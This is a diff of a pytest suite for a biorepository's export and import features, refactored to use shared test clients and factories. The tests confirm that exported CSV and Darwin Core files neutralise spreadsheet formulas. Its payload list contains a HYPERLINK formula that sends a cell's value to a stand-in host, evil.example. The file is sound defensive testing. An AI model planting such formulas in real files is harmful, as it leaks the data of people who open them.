@@ -13,14 +13,12 @@ import secrets
 import zipfile
 
 import pytest
-from click.testing import CliRunner
 from sqlalchemy import select
 
-from api.cli import main
 from repository.db import unit_of_work
 from repository.models import Material, Seed, Strain
-from repository.services import collections, materials
-from tests.clients import call
+from tests.clients import ApiClient, CliRunner
+from tests.factories import add_collection, add_material
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -63,15 +61,13 @@ def evil(world):
     the payloads."""
     app, _, _ = world
     with unit_of_work(app.extensions["biorepo"]) as db:
-        collections.create_collection(db, {"code": "EVB", "name": "B", "kind": "biobank"})
-        collections.create_collection(db, {"code": "EVS", "name": "S", "kind": "seed_bank"})
-        collections.create_collection(db, {"code": "EVS2", "name": "S2", "kind": "seed_bank"})
-        collections.create_collection(
-            db, {"code": "EVC", "name": "C", "kind": "culture_collection"}
-        )
+        add_collection(db, {"code": "EVB", "name": "B", "kind": "biobank"})
+        add_collection(db, {"code": "EVS", "name": "S", "kind": "seed_bank"})
+        add_collection(db, {"code": "EVS2", "name": "S2", "kind": "seed_bank"})
+        add_collection(db, {"code": "EVC", "name": "C", "kind": "culture_collection"})
         for n, payload in enumerate(PAYLOADS):
-            materials.register_material(db, "API", strain(n))
-            materials.register_material(
+            add_material(db, "API", strain(n))
+            add_material(
                 db,
                 "EVB",
                 {
@@ -84,7 +80,7 @@ def evil(world):
                     "ethics_approval": payload,
                 },
             )
-            materials.register_material(db, "EVS", seed(n, payload))
+            add_material(db, "EVS", seed(n, payload))
     return world
 
 
@@ -106,8 +102,8 @@ def seed(n: int, payload: str) -> dict:
     }
 
 
-def exported(app, token: str, fmt: str, code: str) -> bytes:
-    response = call(app, "GET", f"/api/v1/exchange/exports/{fmt}?collection={code}", token)
+def exported(client: ApiClient, token: str, fmt: str, code: str) -> bytes:
+    response = client.get(f"/api/v1/exchange/exports/{fmt}?collection={code}", token=token)
     assert response.status_code == 200, response.get_json()
     return response.data
 
@@ -141,9 +137,9 @@ def assert_neutralised(rows: list[list[str]]) -> None:
         ("dwca", "API", core_cells),
     ],
 )
-def test_http_exports_neutralise_formulas(evil, fmt, code, read):
-    app, tokens, _ = evil
-    rows = read(exported(app, tokens["admin"], fmt, code))
+def test_http_exports_neutralise_formulas(evil, client: ApiClient, fmt, code, read):
+    _, tokens, _ = evil
+    rows = read(exported(client, tokens["admin"], fmt, code))
     assert_neutralised(rows)
     header = rows[0]
     if fmt in ("mcpd", "dwca"):  # numbers stay numbers
@@ -153,11 +149,10 @@ def test_http_exports_neutralise_formulas(evil, fmt, code, read):
         assert {row[header.index("ELEVATION")] for row in rows[1:]} == {"-10"}
 
 
-def test_cli_exports_neutralise_formulas(evil, tmp_path, monkeypatch):
+def test_cli_exports_neutralise_formulas(evil, tmp_path, monkeypatch, runner: CliRunner):
     app, _, _ = evil
     monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
     monkeypatch.setenv("SECRET_KEY", secrets.token_urlsafe(32))
-    runner = CliRunner()
     for fmt, code, read in (
         ("mirri", "API", csv_cells),
         ("miabis", "EVB", csv_cells),
@@ -165,12 +160,14 @@ def test_cli_exports_neutralise_formulas(evil, tmp_path, monkeypatch):
         ("dwca", "API", core_cells),
     ):
         out = tmp_path / f"{fmt}.out"
-        result = runner.invoke(main, ["export", fmt, str(out), "--collection", code])
+        result = runner.invoke(["export", fmt, str(out), "--collection", code])
         assert result.exit_code == 0, result.output
         assert_neutralised(read(out.read_bytes()))
 
 
-def test_the_problems_file_neutralises_the_values_it_echoes(evil, tmp_path, monkeypatch):
+def test_the_problems_file_neutralises_the_values_it_echoes(
+    evil, tmp_path, monkeypatch, runner: CliRunner
+):
     """A rejected row's values go to `--problems OUT.csv`: neutralised there too."""
     app, _, _ = evil
     monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
@@ -182,8 +179,7 @@ def test_the_problems_file_neutralises_the_values_it_echoes(evil, tmp_path, monk
         for n, payload in enumerate(PAYLOADS):
             writer.writerow([f"BAD {n}", "x", "Bacillus subtilis", payload.lstrip("'")])
     problems = tmp_path / "problems.csv"
-    result = CliRunner().invoke(
-        main,
+    result = runner.invoke(
         [
             "import",
             "csv",
@@ -212,11 +208,11 @@ def stored(app, model: type[Material], code: str, fields: list[str]) -> list[tup
         return [tuple(getattr(m, f) for f in fields) for m in found]
 
 
-def imported(app, token: str, fmt: str, code: str, data: bytes, name: str) -> dict:
-    response = app.test_client().post(
+def imported(client: ApiClient, token: str, fmt: str, code: str, data: bytes, name: str) -> dict:
+    response = client.post(
         "/api/v1/exchange/imports",
         data={"file": (io.BytesIO(data), name), "format": fmt, "collection": code},
-        headers={"Authorization": f"Bearer {token}"},
+        token=token,
         content_type="multipart/form-data",
     )
     assert response.status_code == 200, response.get_json()
@@ -237,14 +233,16 @@ SEED_FIELDS += ["latitude", "longitude", "elevation_m"]
         ("mcpd", "EVS", "EVS2", Seed, SEED_FIELDS),
     ],
 )
-def test_an_exported_file_imports_to_the_values_exported(evil, fmt, source, target, model, fields):
+def test_an_exported_file_imports_to_the_values_exported(
+    evil, client: ApiClient, fmt, source, target, model, fields
+):
     """Our own neutralised files round-trip: the `'` is taken off on import."""
     app, tokens, _ = evil
-    data = exported(app, tokens["admin"], fmt, source)
+    data = exported(client, tokens["admin"], fmt, source)
     if fmt == "mcpd":
         data = data.replace(f",{source},".encode(), f",{target},".encode())  # INSTCODE
     name = "export.zip" if fmt == "dwca" else "export.csv"
-    outcome = imported(app, tokens["admin"], fmt, target, data, name)
+    outcome = imported(client, tokens["admin"], fmt, target, data, name)
     assert outcome["count"] == 0, outcome["problems"]
     assert stored(app, model, target, fields) == stored(app, model, source, fields)
     assert {row[0] for row in stored(app, model, target, fields)} == set(PAYLOADS)
